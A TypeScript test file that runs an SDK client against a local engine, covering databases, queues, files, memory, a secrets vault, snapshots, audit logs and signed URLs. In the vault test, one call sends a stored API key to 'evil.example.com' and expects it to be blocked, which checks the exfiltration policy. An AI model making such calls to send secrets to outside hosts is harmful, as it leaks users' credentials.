import { describe, expect, it } from "vitest";
import { PrimError } from "../src/index.js";
import { startSdkServer } from "./server.js";

// Every per-type client against a real local engine over HTTP (answers validated against the
// OpenAPI document by server.ts), errors included.

describe("db", () => {
  it("queries, batches, lists tables, branches, promotes and exports", async () => {
    const { client, primitive } = await startSdkServer();
    const db = client.db(await primitive("db"));
    await db.exec("CREATE TABLE notes (id INTEGER PRIMARY KEY, body TEXT)");
    const { results } = await db.batch([
      { sql: "INSERT INTO notes (body) VALUES (?)", params: ["a"] },
      { sql: "INSERT INTO notes (body) VALUES (:b)", params: { b: "b" } },
    ]);
    expect(results.map((r) => r.rows_affected)).toEqual([1, 1]);
    await expect(
      db.batch([{ sql: "INSERT INTO notes (body) VALUES ('c')" }, { sql: "NOT SQL" }]),
    ).rejects.toMatchObject({
      code: "invalid_request",
    });
    expect((await db.query("SELECT body FROM notes ORDER BY id")).rows).toEqual([{ body: "a" }, { body: "b" }]);
    expect(await db.tables()).toEqual([{ name: "notes", type: "table" }]);
    expect((await db.table("notes")).columns.map((c) => c.name)).toEqual(["id", "body"]);
    await db.branches.create("try");
    await db.exec("DELETE FROM notes", [], { branch: "try" });
    expect((await db.query("SELECT count(*) AS n FROM notes", [], { branch: "try" })).rows).toEqual([{ n: 0 }]);
    expect((await db.branches.list()).map((b) => b.name)).toEqual(["try"]);
    await db.exec("INSERT INTO notes (body) VALUES ('main moved')");
    await expect(db.branches.promote("try")).rejects.toMatchObject({ status: 409, code: "branch_conflict" });
    expect(await db.branches.promote("try", { force: true })).toEqual({ promoted: "try" });
    expect((await db.query("SELECT count(*) AS n FROM notes")).rows).toEqual([{ n: 0 }]);
    await db.branches.create("gone");
    expect(await db.branches.delete("gone")).toEqual({ deleted: "gone" });
    const file = Buffer.from(await (await db.export()).arrayBuffer());
    expect(file.subarray(0, 16).toString("latin1")).toBe("SQLite format 3\0");
  });
});

describe("db outbox", () => {
  it("sends jobs with a write that commits, none with one that rolls back", async () => {
    const { client, primitive } = await startSdkServer();
    const db = client.db(await primitive("db"));
    const q = client.queue(await primitive("queue", "jobs"));
    await db.exec("CREATE TABLE orders (item TEXT UNIQUE)");
    await db.exec("INSERT INTO orders VALUES (?)", ["book"], {
      enqueue: [{ primitive: "jobs", queue: "work", body: { item: "book" }, dedupe_key: "book" }],
    });
    await expect(
      db.batch([{ sql: "INSERT INTO orders VALUES ('pen')" }, { sql: "INSERT INTO orders VALUES ('book')" }], {
        enqueue: [{ primitive: "jobs", queue: "work", body: { item: "pen" } }],
      }),
    ).rejects.toMatchObject({ status: 409, code: "conflict" });
    await db.query("SELECT 1", [], { enqueue: [{ primitive: "jobs", queue: "work", body: "ping" }] });
    const jobs = await q.messages("work");
    expect(jobs.data.map((j) => j.body)).toEqual([{ item: "book" }, "ping"]);
  });
});

describe("fs", () => {
  it("writes, reads, lists, moves, searches, forks and deletes", async () => {
    const { client, primitive } = await startSdkServer();
    const fs = client.fs(await primitive("fs"));
    expect((await fs.write("/src/a.ts", "export const needle = 1;", { mode: "600" })).mode).toBe("600");
    expect(await fs.text("src/a.ts")).toBe("export const needle = 1;");
    expect(Buffer.from(await fs.bytes("/src/a.ts")).length).toBe(24);
    expect((await fs.stat("/src")).type).toBe("dir");
    expect((await fs.list()).data.map((e) => e.path)).toEqual(["/src"]);
    expect((await fs.list("/", { recursive: true })).data.map((e) => e.path)).toEqual(["/src", "/src/a.ts"]);
    await fs.mkdir("/docs");
    await fs.write("/docs/b.md", "other");
    await expect(fs.move("/docs/b.md", "/src/a.ts")).rejects.toMatchObject({ code: "fs_conflict" });
    expect((await fs.move("/docs/b.md", "/src/a.ts", { overwrite: true })).path).toBe("/src/a.ts");
    await fs.write("/src/c.ts", "const needle = 2;");
    expect(await fs.glob("/src/*.ts")).toEqual(["/src/a.ts", "/src/c.ts"]);
    expect((await fs.search("needle")).map((h) => h.path)).toEqual(["/src/c.ts"]);
    expect(await fs.fork("/src", "/copy")).toEqual({ path: "/copy", files: 2 });
    await expect(fs.delete("/src")).rejects.toMatchObject({ status: 409, code: "fs_conflict" });
    await fs.delete("/src", { recursive: true });
    await expect(fs.stat("/src")).rejects.toMatchObject({ status: 404 });
  });
});

describe("queue", () => {
  it("sends, receives, settles, requeues, purges, pages and publishes", async () => {
    const { client, primitive } = await startSdkServer();
    const q = client.queue(await primitive("queue"));
    const sent = await q.send("jobs", { n: 1 }, { dedupeKey: "one", priority: 5 });
    expect((await q.send("jobs", { n: 1 }, { dedupeKey: "one" })).deduplicated).toBe(true);
    await q.send("jobs", { n: 2 });
    await q.send("jobs", { n: 3 }, { maxAttempts: 1 });
    const [first] = await q.receive("jobs", { lease: "30s" });
    expect(first?.id).toBe(sent.id);
    expect((await q.heartbeat("jobs", first as NonNullable<typeof first>, { extend: "1m" })).status).toBe("leased");
    expect((await q.ack("jobs", first as NonNullable<typeof first>)).status).toBe("done");
    const rest = await q.receive("jobs", { max: 10 });
    expect(rest.map((j) => j.body)).toEqual([{ n: 2 }, { n: 3 }]);
    expect((await q.retry("jobs", rest[0] as NonNullable<(typeof rest)[0]>, { in: "1h", error: "later" })).status).toBe(
      "ready",
    );
    expect((await q.dead("jobs", rest[1] as NonNullable<(typeof rest)[1]>)).status).toBe("dead");
    await expect(q.requeue("jobs", sent.id)).rejects.toMatchObject({ status: 409, code: "conflict" });
    expect((await q.requeue("jobs", (rest[1] as { id: string }).id)).status).toBe("ready");
    expect((await q.get("jobs", sent.id)).status).toBe("done");
    expect(await q.purge("jobs", "done")).toEqual({ purged: 1 });
    const paged = [];
    for await (const job of q.iterateMessages("jobs", { limit: 1 })) paged.push(job.body);
    expect(paged).toEqual([{ n: 2 }, { n: 3 }]);
    expect((await q.messages("jobs", { status: "ready", limit: 1 })).next_cursor).not.toBeNull();
    await q.subscribe("news", "inbox");
    await q.subscribe("news", "archive");
    expect(await q.publish("news", "hello")).toEqual({ delivered: 2 });
    await q.unsubscribe("news", "archive");
    expect(await q.publish("news", "again")).toEqual({ delivered: 1 });
    expect((await q.queues()).map((c) => [c.name, c.ready])).toEqual([
      ["archive", 1],
      ["inbox", 2],
      ["jobs", 2],
    ]);
  });

  it("sends, acks and publishes in batches, each entry answered in order", async () => {
    const { client, primitive } = await startSdkServer();
    const q = client.queue(await primitive("queue"));
    const sent = await q.sendBatch("jobs", [
      { body: { n: 1 } },
      { body: { n: 2 }, priority: 5, dedupeKey: "two" },
      { body: { n: 3 }, delay: "1h" },
      { body: "x".repeat(300 * 1024) },
    ]);
    expect(sent.map((e) => ("error" in e ? e.status : e.deduplicated))).toEqual([false, false, false, 413]);
    const again = await q.sendBatch("jobs", [{ body: 0, dedupeKey: "two" }]);
    expect(again[0]).toMatchObject({ id: (sent[1] as { id: string }).id, deduplicated: true });
    const jobs = await q.receive("jobs", { max: 10 });
    expect(jobs.map((j) => j.body)).toEqual([{ n: 2 }, { n: 1 }]);
    const [two, one] = jobs as [(typeof jobs)[0], (typeof jobs)[0]];
    const acked = await q.ackBatch("jobs", [{ job: two }, { job: one, action: "retry", in: "1m", error: "later" }]);
    expect(acked.map((e) => ("error" in e ? e.error.code : e.status))).toEqual(["done", "ready"]);
    const stale = await q.ackBatch("jobs", [{ job: two }]);
    expect(stale[0]).toMatchObject({ status: 409, error: { code: "conflict" } });
    await expect(q.ackBatch("jobs", [{ job: { id: "job_x" } }])).rejects.toThrow(TypeError);
    await q.subscribe("news", "inbox");
    expect(await q.publishBatch("news", ["a", "b"])).toEqual([{ delivered: 1 }, { delivered: 1 }]);
  });

  it("aborts a long poll with its signal; jobs() ends quietly", async () => {
    const { client, primitive } = await startSdkServer();
    const q = client.queue(await primitive("queue"));
    const abort = new AbortController();
    setTimeout(() => abort.abort(), 100);
    await expect(q.receive("empty", { wait: "10s", signal: abort.signal })).rejects.toMatchObject({
      name: "AbortError",
    });
    const stop = new AbortController();
    setTimeout(() => stop.abort(), 100);
    const seen = [];
    for await (const job of q.jobs("empty", { wait: "10s", signal: stop.signal })) seen.push(job);
    expect(seen).toEqual([]);
  });

  it("runs the README's worker loop: every job done, one after a retry", async () => {
    const { client, primitive } = await startSdkServer();
    const queue = client.queue(await primitive("queue"));
    for (let i = 0; i < 20; i++) await queue.send("emails", { to: `user${i}@example.com` });
    const delivered: string[] = [];
    let failedOnce = false;
    const deliver = async (body: unknown) => {
      const to = (body as { to: string }).to;
      if (to === "user7@example.com" && !failedOnce) {
        failedOnce = true;
        throw new Error("smtp timeout");
      }
      delivered.push(to);
      if (delivered.length === 20) stop.abort();
    };
    // As in the README (packages/sdk/README.md, "queue: a worker loop"), with `in: 0` for the retry.
    const stop = new AbortController();
    for await (const job of queue.jobs("emails", { lease: "30s", wait: "1s", signal: stop.signal })) {
      try {
        await deliver(job.body);
        await queue.ack("emails", job);
      } catch (err) {
        await queue.retry("emails", job, { error: String(err), in: 0 });
      }
    }
    expect(new Set(delivered).size).toBe(20);
    expect((await queue.queues())[0]).toMatchObject({ name: "emails", ready: 0, leased: 0, done: 20 });
  });
});

describe("memory", () => {
  it("remembers, lists, supersedes, recalls, consolidates and forgets", async () => {
    const { client, primitive } = await startSdkServer();
    const memory = client.memory(await primitive("memory"));
    const ada = await memory.remember({ kind: "fact", text: "Ada prefers email over phone", tags: ["ada"] });
    await memory.remember({ kind: "fact", text: "Bob likes tea", owner: "bob" });
    for (let i = 0; i < 3; i++) await memory.remember({ kind: "note", text: `note ${i}` });
    expect((await memory.list({ kind: "fact" })).data.map((m) => m.text)).toEqual([
      "Bob likes tea",
      "Ada prefers email over phone",
    ]);
    const all = [];
    for await (const m of memory.iterate({ limit: 2 })) all.push(m.id);
    expect(all).toHaveLength(5);
    const newer = await memory.supersede(ada.id, { text: "Ada prefers email, never phone" });
    expect((await memory.get(ada.id)).superseded_by).toBe(newer.id);
    const recalled = await memory.recall("how should I contact Ada?", { limit: 3 });
    expect(recalled[0]?.id).toBe(newer.id);
    expect(recalled[0]?.score).toBeGreaterThan(0);
    expect((await memory.recall("Ada email", { includeSuperseded: true })).map((m) => m.id)).toContain(ada.id);
    await memory.remember({ kind: "fact", text: "Bob likes tea", owner: "bob" });
    expect((await memory.consolidate({ threshold: 0.9 })).merged).toBe(1);
    const bob = await memory.remember({ kind: "fact", text: "Bob drinks coffee", owner: "bob" });
    const changed = await memory.update(bob.id, { kind: "fact", text: "Bob drinks cocoa", ifVersion: 1 });
    expect(changed).toMatchObject({ id: bob.id, version: 2, owner: "bob" });
    await expect(memory.update(bob.id, { kind: "fact", text: "x", ifVersion: 1 })).rejects.toMatchObject({
      status: 412,
      code: "precondition_failed",
    });
    expect((await memory.history(bob.id)).data.map((v) => v.op)).toEqual(["update", "create"]);
    expect((await memory.recall("cocoa", { kinds: ["fact"], minScore: 0.5 })).map((m) => m.id)).toEqual([bob.id]);
    expect((await memory.recall("cocoa", { asOf: bob.created_at - 1 })).length).toBe(0);
    expect(await memory.forget(newer.id)).toEqual({ id: newer.id, deleted: true });
    await expect(memory.get(newer.id)).rejects.toMatchObject({ status: 404, code: "not_found" });
  });
});

describe("vault", () => {
  it("stores secrets and grants without ever answering a value", async () => {
    const { client, primitive } = await startSdkServer();
    const vault = client.vault(await primitive("vault"));
    const value = "sk_live_very_secret_value";
    const stored = await vault.put("STRIPE_KEY", value);
    expect(stored).toMatchObject({ name: "STRIPE_KEY", version: 1 });
    expect(JSON.stringify(await vault.put("STRIPE_KEY", value))).not.toContain(value);
    await vault.put("OTHER", "x-other-value");
    const grant = await vault.grant({ name: "STRIPE_KEY", allow: { hosts: ["api.stripe.com"], methods: ["GET"] } });
    expect(grant).toMatchObject({ name: "STRIPE_KEY", hosts: ["api.stripe.com"], methods: ["GET"] });
    const listed = [];
    for await (const s of vault.iterateSecrets({ limit: 1 })) listed.push(s);
    expect(listed.map((s) => [s.name, s.version])).toEqual([
      ["OTHER", 1],
      ["STRIPE_KEY", 2],
    ]);
    expect(JSON.stringify(listed)).not.toContain(value);
    expect((await vault.grants()).data.map((g) => g.name)).toEqual(["STRIPE_KEY"]);
    const grants = [];
    for await (const g of vault.iterateGrants()) grants.push(g.name);
    expect(grants).toEqual(["STRIPE_KEY"]);
    await expect(
      vault.fetch({ url: "https://evil.example.com/", auth: { bearer: "STRIPE_KEY" } }),
    ).rejects.toMatchObject({ status: 403, code: "secret_policy_denied" });
    await vault.revoke("STRIPE_KEY");
    expect((await vault.grants()).data).toEqual([]);
    await vault.delete("OTHER");
    expect((await vault.secrets()).data.map((s) => s.name)).toEqual(["STRIPE_KEY"]);
  });
});

describe("lifecycle, audit and errors", () => {
  it("snapshots, restores, forks, pauses, exports and audits", async () => {
    const { client, primitive } = await startSdkServer();
    const id = await primitive("kv");
    const kv = client.kv(id);
    await kv.set("k", "before");
    const snap = await client.primitives.snapshot(id, { name: "s1" });
    await kv.set("k", "after");
    expect((await client.primitives.snapshots(id)).data.map((s) => s.id)).toEqual([snap.id]);
    const snaps = [];
    for await (const s of client.primitives.iterateSnapshots(id)) snaps.push(s.name);
    expect(snaps).toEqual(["s1"]);
    await client.primitives.restore(id, "s1");
    expect((await kv.get("k")).value).toBe("before");
    const copy = await client.primitives.fork(id, { name: "copy" });
    expect(copy.forked_from).toMatchObject({ id, name: "kv-1" });
    expect((await client.primitives.pause(copy.id)).paused).toBe(true);
    await expect(client.kv(copy.id).get("k")).rejects.toMatchObject({ status: 423, code: "paused" });
    expect((await client.primitives.resume(copy.id)).paused).toBe(false);
    expect((await client.primitives.stats(id)).items).toBe(1);
    expect((await client.primitives.export(id)).headers.get("content-type")).toBe("application/vnd.sqlite3");
    const ids = [];
    for await (const p of client.primitives.iterate({ limit: 1 })) ids.push(p.id);
    expect(ids).toEqual([id, copy.id]);
    const actions = [];
    for await (const e of client.primitives.iterateAudit(id, { action: "primitive.*", limit: 1 }))
      actions.push(e.action);
    expect(actions).toEqual([
      "primitive.export",
      "primitive.stats",
      "primitive.fork",
      "primitive.restore",
      "primitive.snapshot",
      "primitive.create",
    ]);
    expect((await client.groups.audit("app", { type: "group" })).data.map((e) => e.action)).toEqual(["group.create"]);
    expect((await client.audit.list({ action: "kv.set" })).data).toHaveLength(2);
    const groups = [];
    for await (const g of client.groups.iterate()) groups.push(g.name);
    expect(groups).toEqual(["app"]);
    await expect(client.groups.delete("app")).rejects.toMatchObject({ status: 409, code: "conflict" });
    await client.groups.delete("app", { force: true });
    await expect(client.primitives.get(id)).rejects.toMatchObject({ status: 404 });
  });

  it("raises PrimError for wrong types, bad input and a missing credential", async () => {
    const { client, primitive, url } = await startSdkServer({ rootToken: "root-token-for-tests" });
    const dbId = await primitive("db");
    const wrong = await client
      .kv(dbId)
      .get("k")
      .catch((e: unknown) => e);
    expect(wrong).toBeInstanceOf(PrimError);
    expect(wrong).toMatchObject({ status: 400, code: "wrong_type", requestId: expect.stringMatching(/^req_/) });
    await expect(client.db(dbId).query("")).rejects.toMatchObject({ status: 400, code: "invalid_request" });
    const { PrimClient } = await import("../src/index.js");
    const tokenless = new PrimClient({ baseUrl: url });
    await expect(tokenless.groups.list()).rejects.toMatchObject({ status: 401, code: "invalid_token" });
  });

  it("reads and writes through signed URLs", async () => {
    const { client, primitive } = await startSdkServer();
    const storage = client.storage(await primitive("storage"));
    const up = await storage.presign("up.txt", { method: "PUT", contentType: "text/plain", createOnly: true });
    expect((await client.signed.put(up.url, "hello signed", up.headers)).size).toBe(12);
    const down = await storage.presign("up.txt");
    expect(await (await client.signed.get(down.url, { range: "bytes=6-" })).text()).toBe("signed");
    await storage.revokeSigned();
    await expect(client.signed.get(down.url)).rejects.toMatchObject({ status: 403, code: "forbidden" });
  });

  it("signs URLs with maxUses and maxSize", async () => {
    const { client, primitive } = await startSdkServer();
    const storage = client.storage(await primitive("storage"));
    const up = await storage.presign("once.txt", { method: "PUT", maxSize: 5, maxUses: 1 });
    expect(up.max_uses).toBe(1);
    await expect(client.signed.put(up.url, "too long", up.headers)).rejects.toMatchObject({
      status: 413,
      code: "payload_too_large",
    });
    expect((await client.signed.put(up.url, "fits", up.headers)).size).toBe(4);
    await expect(client.signed.put(up.url, "more", up.headers)).rejects.toMatchObject({ status: 403 });
    const down = await storage.presign("once.txt", { maxUses: 2 });
    expect(down.max_uses).toBe(2);
    expect(await (await client.signed.get(down.url)).text()).toBe("fits");
    expect(await (await client.signed.get(down.url)).text()).toBe("fits");
    await expect(client.signed.get(down.url)).rejects.toMatchObject({ status: 403, code: "forbidden" });
    expect(await (await client.signed.get((await storage.presign("once.txt")).url)).text()).toBe("fits");
  });
});
